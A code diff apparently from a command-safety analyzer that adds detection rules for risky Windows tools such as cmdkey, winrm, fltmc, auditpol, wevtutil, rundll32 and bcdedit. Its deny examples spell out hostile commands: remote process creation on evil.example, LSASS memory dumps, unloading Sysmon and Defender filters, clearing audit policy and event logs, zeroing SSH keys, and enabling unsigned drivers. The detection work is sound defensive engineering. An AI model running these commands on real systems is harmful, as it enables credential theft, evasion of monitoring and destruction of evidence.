@@ -2,8 +2,9 @@
 import type { Word } from '../../types.js';
 import { isCodeVariable } from '../variables.js';
 import type { Answer, Call, ProgramEntry, ProgramExample, Run } from '../types.js';
-import { attached, value } from '../words.js';
+import { alternateStream, attached, rejoined, value } from '../words.js';
 import { destinations, envProxies, urlHost } from '../hosts.js';
+import { protectionOff } from './known.js';
 
 const PS = 'powershell' as const;
 
@@ -264,7 +265,108 @@ function wmicReach(call: Call, words: readonly (string | undefined)[]): Partial<
   return remote ? {} : { offline: 'wmic queries this machine' };
 }
 
+/** auditpol's switches that take audit policy away: every setting cleared, a user's removed, a file restored (which no static reading checks). */
+const AUDITPOL_OFF = /^-(?:clear|remove|restore)$/;
+
 export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
+  {
+    names: ['cmdkey'],
+    summary: 'cmdkey: /add and /generic with /pass store a credential that later connections to the target log in with; /list names the targets (no secret) and /delete removes one',
+    analyze: (call) => {
+      const words = call.args.map((w) => flag(w));
+      const add = call.args.find((_w, i) => words[i] === undefined || /^-(?:add|generic):/.test(words[i]!));
+      const pass = words.some((v) => v === undefined || /^-pass(?::|$)/.test(v));
+      return add && pass ? { persists: [{ word: add, why: `cmdkey ${add.text} stores a password that later connections to that target log in with, without asking` }] } : {};
+    },
+    examples: { deny: [ps('cmdkey /add:server01 /user:dev /pass:Secr3t'), ps('cmdkey /generic:git:https://evil.example /user:x /pass:y')], pass: [ps('cmdkey /list'), ps('cmdkey /delete:server01'), ps('cmdkey /add:server01 /smartcard')] },
+  },
+  {
+    names: ['winrm'],
+    summary: 'winrm (winrm.vbs): `-r:HOST` (-remote:) acts on another machine over WS-Management (`invoke Create` starts a process there); without it, this machine',
+    analyze: (call) => {
+      const at = call.args.find((w) => value(w) === undefined || /^[-/]r(?:emote)?:/i.test(value(w)!));
+      if (!at) return { offline: 'winrm acts on this machine' };
+      const v = value(at);
+      return v === undefined ? {} : { destinations: destinations(attached(at, v.replace(/^[-/]r(?:emote)?:/i, '')), urlHost) };
+    },
+    examples: { deny: [ps('winrm invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:https://evil.example'), ps('winrm get winrm/config -remote:evil.example:5985')], pass: [ps('winrm get winrm/config'), ps('winrm get winrm/config -r:localhost')] },
+  },
+  {
+    // Remote.exe (the Windows debugging tools'): `/s CMD NAME` serves CMD to whoever connects to the pipe NAME, from any
+    // machine; `/c HOST NAME` connects to another machine's.
+    names: ['remote'],
+    summary: 'Remote.exe: /s CMD NAME serves CMD (a shell) to other machines over a named pipe; /c HOST NAME connects to one',
+    analyze: (call) => {
+      const mode = flag(call.args[0]);
+      if (help(call.args[0])) return { offline: 'Remote.exe /? prints its usage' };
+      if (call.args[0] && (mode === undefined || mode === '-s')) return { opens: [{ word: call.args[0], why: `Remote.exe ${call.args[0].text} ${call.args[1]?.text ?? ''} serves a command to whoever connects to its named pipe, from any machine` }], offline: 'Remote.exe /s listens' };
+      if (mode === '-c' && call.args[1]) return { destinations: destinations(call.args[1], urlHost) };
+      return { offline: 'Remote.exe with no session names no machine' };
+    },
+    examples: { deny: [ps('Remote.exe /s "cmd" x'), ps('remote /c evil.example x')], pass: [ps('remote /?'), ps('remote /c localhost x')] },
+  },
+  {
+    // vshadow -exec=CMD runs CMD once the shadow copy is made; xbootmgr's -callBack and -preTraceCmd run theirs around a
+    // traced boot; xbootmgrsleep runs its second word.
+    names: ['vshadow', 'xbootmgr', 'xbootmgrsleep'],
+    summary: 'vshadow -exec=CMD, xbootmgr -callBack CMD / -preTraceCmd CMD, xbootmgrsleep MS CMD: each runs CMD',
+    analyze: (call) => {
+      if (call.name === 'xbootmgrsleep') return call.args[1] ? { runs: [{ kind: 'argv', argv: call.args.slice(1), via: 'xbootmgrsleep' }] } : {};
+      const runs: Run[] = [];
+      call.args.forEach((w, i) => {
+        const v = value(w);
+        // PowerShell splits `-exec=C:\x\a.exe` at the colon: rejoined, it is the command.
+        const exec = v === undefined ? undefined : /^[-/]exec=(.+)$/is.exec(rejoined(call.args, i) ?? v);
+        if (exec) runs.push({ kind: 'argv', argv: [attached(w, exec[1]!)], via: `${call.name} -exec` });
+        else if (v !== undefined && /^[-/](?:callback|pretracecmd|posttracecmd)$/i.test(v) && call.args[i + 1]) runs.push({ kind: 'argv', argv: [call.args[i + 1]!], via: `${call.name} ${v}` });
+        else if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `${call.name} ${w.text} is computed: it may name a command it runs` });
+      });
+      return { runs };
+    },
+    examples: { deny: [ps('xbootmgr -trace boot -callBack curl.exe'), ps('vshadow -nw -exec=C:\\Windows\\System32\\curl.exe C:')], pass: [ps('xbootmgr -trace boot'), ps('vshadow -q'), ps('vshadow -nw -exec=C:\\Windows\\System32\\hostname.exe C:')] },
+  },
+  {
+    names: ['fltmc'],
+    summary: 'fltmc: unload and detach take a file-system minifilter off (Sysmon\u2019s and Defender\u2019s watch every file through one); filters, instances and volumes list',
+    analyze: (call) => {
+      const sub = flag(call.args[0]);
+      const at = call.args[0];
+      if (!at || !(sub === undefined || sub === 'unload' || sub === 'detach')) return {};
+      return { persists: [protectionOff(at, `fltmc ${at.text} ${call.args[1]?.text ?? ''} takes a file-system filter off, which security agents (Sysmon, Defender) watch files through`.replace('  ', ' '))] };
+    },
+    examples: { deny: [ps('fltMC unload SysmonDrv'), ps('fltmc.exe detach WdFilter C:')], pass: [ps('fltmc filters'), ps('fltmc instances'), ps('fltmc load SysmonDrv')] },
+  },
+  {
+    names: ['fsutil'],
+    summary: 'fsutil: `usn deletejournal` deletes the volume\u2019s change journal (the record of which files changed); `file setzerodata` zeroes a range of the file it names; its queries only read',
+    analyze: (call) => {
+      const words = call.args.map((w) => flag(w));
+      if (call.args[0] && (words[0] === undefined || (words[0] === 'usn' && (words[1] === undefined || words[1] === 'deletejournal')))) {
+        return { persists: [protectionOff(call.args[1] ?? call.args[0], `fsutil ${call.args.slice(0, 2).map((w) => w.text).join(' ')} deletes the volume\u2019s change journal, the record of which files changed`)] };
+      }
+      if (words[0] === 'file' && words[1] === 'setzerodata') {
+        const target = call.args.slice(2).find((w) => !/^\w+=/.test(value(w) ?? ''));
+        return target ? { uses: [{ word: target, role: 'write' }] } : {};
+      }
+      return {};
+    },
+    examples: { deny: [ps('fsutil usn deletejournal /d C:'), ps('fsutil.exe usn deletejournal /n c:'), ps('fsutil file setZeroData offset=0 length=4096 $HOME\\.ssh\\id_rsa')], pass: [ps('fsutil usn queryjournal C:'), ps('fsutil fsinfo drives'), ps('fsutil file setZeroData offset=0 length=4096 .\\build\\out.bin')] },
+  },
+  {
+    names: ['auditpol'],
+    summary: 'auditpol: /clear, /remove and /restore take the audit policy away (or replace it with a file\u2019s); /set with /success:disable or /failure:disable stops a category being recorded; /get, /list and /backup only read',
+    analyze: (call) => {
+      // `/category:*` is a word auditpol reads, not a glob; only a variable or subexpression is computed.
+      const words = call.args.map((w) => flag(w) ?? (/[$@(`]/.test(w.text) ? undefined : w.text.toLowerCase().replace(/^\//, '-')));
+      const off = call.args.find((_w, i) => {
+        const v = words[i];
+        if (v === undefined) return true;
+        return AUDITPOL_OFF.test(v) || (words.includes('-set') && /^-(?:success|failure):disable$/.test(v));
+      });
+      return off ? { persists: [protectionOff(off, `auditpol ${off.text} stops Windows recording what the audit policy named`)] } : {};
+    },
+    examples: { deny: [ps('auditpol /clear /y'), ps('auditpol /set /category:"Logon/Logoff" /success:disable'), ps('auditpol /remove /allusers'), ps('auditpol /restore /file:C:\\tmp\\a.csv')], pass: [ps('auditpol /get /category:*'), ps('auditpol /set /subcategory:Logon /success:enable /failure:enable'), ps('auditpol /backup /file:C:\\tmp\\a.csv'), ps('auditpol /?')] },
+  },
   {
     names: ['msiexec'],
     summary: 'msiexec: installs a package; given a URL it downloads it',
@@ -293,10 +395,16 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       const remote = call.args.some((w) => /url\.dll|ieframe\.dll|shdocvw\.dll|javascript:|mshtml/i.test(value(w) ?? w.text) || URL.test(value(w) ?? ''));
       // comsvcs.dll's MiniDump export writes a process's memory to a file: LSASS's holds the logged-on users' credentials.
       const dump = call.args.find((w) => /comsvcs(?:\.dll)?['"\s,]*(?:minidump|#\s*24)\b/i.test(call.args.map((a) => value(a) ?? a.text).join(' ')) && /comsvcs/i.test(value(w) ?? w.text));
-      const dumps: Partial<Answer> = dump ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: dump, why: "comsvcs.dll MiniDump writes a process's memory to a file (LSASS's holds the users' credentials)" }] } : {};
+      // `rundll32 notes.txt:x.dll,Entry`: a DLL kept in a file's hidden stream, which no listing shows.
+      const hidden = call.args.find((w) => alternateStream((value(w) ?? '').split(',')[0]!.trim()) !== undefined);
+      const runs: Run[] = [
+        ...(dump ? [{ kind: 'opaque' as const, rule: 'dynamic-code' as const, word: dump, why: "comsvcs.dll MiniDump writes a process's memory to a file (LSASS's holds the users' credentials)" }] : []),
+        ...(hidden ? [{ kind: 'opaque' as const, rule: 'dynamic-code' as const, word: hidden, why: `rundll32 ${hidden.text} loads a DLL kept in a file's hidden stream, which no listing shows` }] : []),
+      ];
+      const dumps: Partial<Answer> = runs.length > 0 ? { runs } : {};
       return remote ? dumps : { ...dumps, offline: 'rundll32 calls a local DLL export' };
     },
-    examples: { deny: [ps('rundll32 url.dll,FileProtocolHandler https://evil.example'), ps('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\tmp\\l.dmp full'), ps("rundll32 comsvcs.dll '#24' 624 l.dmp full")], pass: [ps('rundll32 printui.dll,PrintUIEntry /?')] },
+    examples: { deny: [ps('rundll32 url.dll,FileProtocolHandler https://evil.example'), ps('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\tmp\\l.dmp full'), ps("rundll32 comsvcs.dll '#24' 624 l.dmp full"), ps('rundll32 notes.txt:x.dll,Entry')], pass: [ps('rundll32 printui.dll,PrintUIEntry /?'), ps('rundll32 .\\build\\x.dll,Entry')] },
   },
   {
     names: ['chrome', 'msedge', 'firefox', 'chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable', 'brave', 'opera'],
@@ -353,7 +461,7 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
   },
   {
     names: ['wevtutil'],
-    summary: 'wevtutil: cl (clear-log) empties an event log, the audit history of what ran on the machine; its other modes query, export or configure',
+    summary: 'wevtutil: cl (clear-log) empties an event log, the audit history of what ran on the machine; sl /e:false stops one recording; its other modes query, export or configure',
     analyze: (call) => {
       const sub = flag(call.args[0]);
       // A computed mode may be cl: it is judged as one.
@@ -361,9 +469,12 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
         const log = call.args[1] ?? call.args[0];
         return { destroys: [{ word: log, what: 'data', why: `wevtutil ${sub ?? value(call.args[0]) ?? 'with a computed mode'} empties the ${value(call.args[1]) ?? 'named'} event log: the audit history it held is gone` }] };
       }
+      // `sl LOG /e:false` (set-log, enabled false): the log stops recording.
+      const off = sub === 'sl' || sub === 'set-log' ? call.args.slice(2).find((w) => /^-(?:e|enabled):(?:false|0)$/.test(flag(w) ?? '') || value(w) === undefined) : undefined;
+      if (off) return { persists: [protectionOff(off, `wevtutil ${call.args[0]!.text} ${value(call.args[1]) ?? 'a log'} ${off.text} stops the event log recording`)] };
       return {};
     },
-    examples: { deny: [ps('wevtutil cl Security'), ps('wevtutil.exe clear-log System /bu:C:\\tmp\\s.evtx'), ps('wevtutil cl "Windows PowerShell"')], pass: [ps('wevtutil qe Security /c:5 /f:text'), ps('wevtutil el'), ps('wevtutil epl Application C:\\tmp\\app.evtx')] },
+    examples: { deny: [ps('wevtutil sl Security /e:false'), ps('wevtutil set-log Microsoft-Windows-Sysmon/Operational /enabled:false'), ps('wevtutil cl Security'), ps('wevtutil.exe clear-log System /bu:C:\\tmp\\s.evtx'), ps('wevtutil cl "Windows PowerShell"')], pass: [ps('wevtutil sl Security /e:true'), ps('wevtutil sl Security /ms:1048576'), ps('wevtutil qe Security /c:5 /f:text'), ps('wevtutil el'), ps('wevtutil epl Application C:\\tmp\\app.evtx')] },
   },
   {
     names: ['reg'],
@@ -763,11 +874,14 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       // `/store FILE` names another store: what follows decides. A computed switch may be any of them.
       const computed = call.args.find((w) => value(w) === undefined && !help(w));
       const word = op ?? computed;
-      if (word) return { destroys: [{ word, what: 'disk', why: `bcdedit ${word.text} changes the boot configuration: the machine may no longer boot, or boots without recovery` }] };
+      // testsigning, nointegritychecks, disableelamdrivers: the next boot loads drivers no one signed, before any protection.
+      const unsigned = /^[-/]set$/i.test(value(op) ?? '') ? call.args.find((w) => /^(?:testsigning|nointegritychecks|disableelamdrivers)$/i.test(value(w) ?? '')) : undefined;
+      const persists = unsigned ? [protectionOff(unsigned, `bcdedit /set ${unsigned.text} lets Windows load drivers no one signed, from the next boot`)] : [];
+      if (word) return { persists, destroys: [{ word, what: 'disk', why: `bcdedit ${word.text} changes the boot configuration: the machine may no longer boot, or boots without recovery` }] };
       if (first && !reads(first) && !/^[-/]store$/i.test(value(first) ?? '')) return { destroys: [{ word: first, what: 'disk', why: `bcdedit ${first.text} is not a mode known to only read the boot configuration` }] };
       return {};
     },
-    examples: { deny: [ps('bcdedit /delete {current}'), ps('bcdedit /deletevalue {default} safeboot'), ps('bcdedit /set {default} recoveryenabled no'), ps('bcdedit /import C:\\tmp\\bcd')], pass: [ps('bcdedit /enum'), ps('bcdedit /enum all /v'), ps('bcdedit /export C:\\tmp\\bcd.bak'), ps('bcdedit /?')] },
+    examples: { deny: [ps('bcdedit /delete {current}'), ps('bcdedit /deletevalue {default} safeboot'), ps('bcdedit /set {default} recoveryenabled no'), ps('bcdedit /import C:\\tmp\\bcd'), ps('bcdedit /set {current} testsigning on')], pass: [ps('bcdedit /enum'), ps('bcdedit /enum all /v'), ps('bcdedit /export C:\\tmp\\bcd.bak'), ps('bcdedit /?')] },
   },
   {
     names: ['cipher'],
